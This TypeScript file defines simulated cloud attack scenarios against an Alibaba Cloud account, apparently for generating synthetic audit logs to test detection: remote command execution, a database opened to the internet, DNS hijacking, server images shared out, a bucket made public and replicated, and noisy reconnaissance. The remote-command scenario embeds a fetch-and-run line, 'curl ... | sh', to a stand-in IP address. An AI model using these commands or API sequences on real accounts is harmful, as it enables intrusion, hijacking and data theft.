import type { Plot } from './history';
import { assumeRole } from './identities';
import { rentedAtHome } from './world';

/** Attacks on what the account holds and how it is reached. */
export const DATA_ATTACKS: Plot[] = [
  {
    name: 'remote-command',
    isAttack: true,
    kinds: ['command'],
    says: 'A command with a time stamp for a name ran on every instance and was removed after it.',
    tell: (stage) => {
      const { dice, instances } = stage.world;
      const raid = stage
        .raid(-dice.int(1, 15))
        .do('Ecs.DescribeRegions')
        .do('Ecs.DescribeInstances')
        .do('Ecs.DescribeCloudAssistantStatus');
      const CommandId = `c-hz0${dice.text(12)}`;
      raid.do(
        'Ecs.CreateCommand',
        {
          Name: String(Math.floor(raid.time / 1000)),
          Type: 'RunShellScript',
          CommandContent: Buffer.from('curl -s http://198.51.100.7/x|sh').toString('base64'),
        },
        { response: { CommandId } },
      );
      raid.do(
        'Ecs.InvokeCommand',
        { CommandId, ...Object.fromEntries(instances.map((id, n) => [`InstanceId.${n + 1}`, id])) },
        { resources: { 'ACS::ECS::Instance': instances } },
      );
      raid.do('Ecs.DescribeInvocationResults', { CommandId }).do('Ecs.DeleteCommand', { CommandId });
    },
  },
  {
    name: 'open-database',
    isAttack: true,
    kinds: ['database'],
    says: 'The database got a public address, was opened to the whole internet, and a new account was granted on it.',
    tell: (stage) => {
      const { dice, databases, business } = stage.world;
      const DBInstanceId = databases[0] ?? '';
      const raid = stage
        .raid(-dice.int(1, 9), stage.thief({ ip: rentedAtHome(dice), agent: business.agent }))
        .do('Rds.DescribeDBInstanceNetInfo', { DBInstanceId });
      raid
        .do('Rds.AllocateInstancePublicConnection', {
          DBInstanceId,
          ConnectionStringPrefix: dice.text(9),
          Port: '3306',
        })
        .do('Rds.ModifySecurityIps', { DBInstanceId, SecurityIps: '0.0.0.0/0', DBInstanceIPArrayName: 'default' });
      raid
        .do('Rds.CreateAccount', { DBInstanceId, AccountName: `u${dice.text(4)}`, AccountType: 'Super' })
        .do('Dms.CreateDataExportOrder', { Comment: 'export' });
    },
  },
  {
    name: 'dns-hijack',
    isAttack: true,
    kinds: ['dns'],
    says: "The website's and the mail's records were pointed to an address that is not the company's, from a foreign host.",
    tell: (stage) => {
      const { dice, domain } = stage.world;
      const raid = stage
        .raid(-dice.int(1, 5))
        .do('Alidns.DescribeDomains')
        .do('Alidns.DescribeDomainRecords', { DomainName: domain });
      for (const RR of ['www', '@', 'login'])
        raid.do('Alidns.UpdateDomainRecord', {
          RecordId: dice.digits(18),
          RR,
          Type: 'A',
          Value: `185.199.${dice.int(1, 99)}.${dice.int(1, 250)}`,
        });
      raid.do('Alidns.AddDomainRecord', {
        DomainName: domain,
        RR: '@',
        Type: 'MX',
        Value: `mx.${dice.text(8)}.ru`,
        Priority: '1',
      });
    },
  },
  {
    name: 'image-theft',
    isAttack: true,
    kinds: ['data'],
    says: "From the business's own machine a session of its own role imaged the servers and shared the image with an unknown account.",
    tell: (stage) => {
      const { dice, business, roleName, instances } = stage.world;
      const raid = stage.raid(-dice.int(20, 60), business);
      const session = assumeRole(raid, roleName, `job-${dice.text(6)}`);
      const stranger = dice.digits(16);
      raid.as(session).do('Ecs.DescribeInstances');
      for (const InstanceId of instances.slice(0, 3)) {
        const ImageId = `m-bp1${dice.text(17)}`;
        raid
          .do('Ecs.CreateImage', { InstanceId, ImageName: dice.text(8) }, { response: { ImageId } })
          .do('Ecs.ModifyImageSharePermission', { ImageId, 'AddAccount.1': stranger });
      }
      stage.took('session', session.accessKeyId);
    },
  },
  {
    name: 'public-bucket',
    isAttack: true,
    kinds: ['data'],
    says: "At night, from the build host itself with the usual tool, the archive was made public and replicated to a stranger's bucket.",
    tell: (stage) => {
      const { dice, business, bucket } = stage.world;
      const midnight = Math.floor(stage.world.leak / 86_400_000) * 24 - stage.world.leak / 3_600_000;
      const raid = stage
        .raid(midnight - 24 + 18, business)
        .do('Oss.ListBuckets')
        .do('Oss.GetBucketAcl', { bucketName: bucket });
      raid.do(
        'Oss.PutBucketAcl',
        { bucketName: bucket, acl: 'public-read' },
        { resources: { 'ACS::OSS::Bucket': [bucket] } },
      );
      raid.do(
        'Oss.PutBucketPolicy',
        {
          bucketName: bucket,
          policy:
            '{"Version":"1","Statement":[{"Effect":"Allow","Principal":["*"],"Action":["oss:GetObject","oss:ListObjects"],"Resource":["acs:oss:*:*:*"]}]}',
        },
        { resources: { 'ACS::OSS::Bucket': [bucket] } },
      );
      raid.do('Oss.PutBucketReplication', {
        bucketName: bucket,
        destinationBucket: `x${dice.text(9)}`,
        targetLocation: 'oss-ap-southeast-1',
      });
    },
  },
  {
    name: 'loud-look-round',
    isAttack: true,
    kinds: ['reconnaissance'],
    says: 'From an anonymous address the key listed two dozen services in minutes, and half of it was refused.',
    tell: (stage) => {
      const { dice } = stage.world;
      const raid = stage
        .raid(dice.int(1, 5), stage.thief({ ip: `185.220.101.${dice.int(2, 250)}` }), [1, 6])
        .do('Sts.GetCallerIdentity');
      const calls = [
        'Ram.ListUsers',
        'Ram.ListRoles',
        'Ram.ListPolicies',
        'Ram.GetAccountAlias',
        'Ram.ListPoliciesForUser',
        'Ram.ListGroupsForUser',
        'Ecs.DescribeRegions',
        'Ecs.DescribeInstances',
        'Ecs.DescribeSecurityGroups',
        'Ecs.DescribeImages',
        'Ecs.DescribeKeyPairs',
        'Vpc.DescribeVpcs',
        'Rds.DescribeDBInstances',
        'Oss.ListBuckets',
        'Kms.ListKeys',
        'Kms.ListSecrets',
        'FC.ListFunctions',
        'Sls.ListProject',
        'Alidns.DescribeDomains',
        'BssOpenApi.QueryAccountBalance',
        'Dysmsapi.QuerySmsSignList',
        'Actiontrail.DescribeTrails',
        'Sas.DescribeSuspEvents',
        'CloudSSO.ListDirectories',
        'ResourceManager.ListAccounts',
      ];
      for (const call of dice.some(calls, calls.length))
        raid.do(call, {}, dice.chance(0.5) ? { error: dice.pick(['NoPermission', 'Forbidden.RAM']) } : {});
    },
  },
];
